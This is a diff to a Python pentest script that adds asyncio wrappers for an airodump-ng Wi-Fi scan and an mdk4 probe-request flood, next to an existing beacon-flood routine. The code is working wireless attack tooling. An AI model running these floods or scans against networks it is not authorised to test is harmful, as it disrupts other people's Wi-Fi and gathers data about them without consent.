@@ -1,4 +1,5 @@
 # scripts/pentests.py
+import asyncio
 import time
 import subprocess
 import random
@@ -55,3 +56,41 @@ def beacon_flood(interface, seconds=10, out_dir="data/attacks"):
     time.sleep(seconds)
     p.terminate()
     subprocess.run(["pkill", "mdk4"], check=False)
+
+# Wersje dla pętli asyncio z main.py: nie blokują, czekają przez await
+async def _stop(p):
+    if p.returncode is None:
+        p.terminate()
+    await p.wait()
+
+async def scan_wifi_async(interface, seconds=30, out_dir="data/scans"):
+    os.makedirs(out_dir, exist_ok=True)
+    base = os.path.join(out_dir, f"wifi_scan{time.strftime('%Y%m%d_%H%M%S')}")
+
+    p = await asyncio.create_subprocess_exec(
+        "airodump-ng", interface,
+        "--write", base,
+        "--output-format", "csv",
+    )
+    try:
+        await asyncio.sleep(seconds)
+    finally:
+        # także przy anulowaniu (SIGINT), inaczej airodump-ng zostaje
+        await _stop(p)
+        await (await asyncio.create_subprocess_exec("pkill", "airodump-ng")).wait()
+
+async def probe_request_flood_async(interface, seconds=10, out_dir="data/attacks"):
+    os.makedirs(out_dir, exist_ok=True)
+    ssid = ''.join(random.choices(string.ascii_letters + string.digits, k=8))
+    ts = time.strftime('%Y%m%d_%H%M%S')
+    log_path = os.path.join(out_dir, f"probe_flood_{ts}.log")
+
+    with open(log_path, "w") as log:
+        p = await asyncio.create_subprocess_exec(
+            "mdk4", interface, "p", "-s", ssid, "-c", "1",
+            stdout=log, stderr=subprocess.STDOUT)
+    try:
+        await asyncio.sleep(seconds)
+    finally:
+        await _stop(p)
+        await (await asyncio.create_subprocess_exec("pkill", "mdk4")).wait()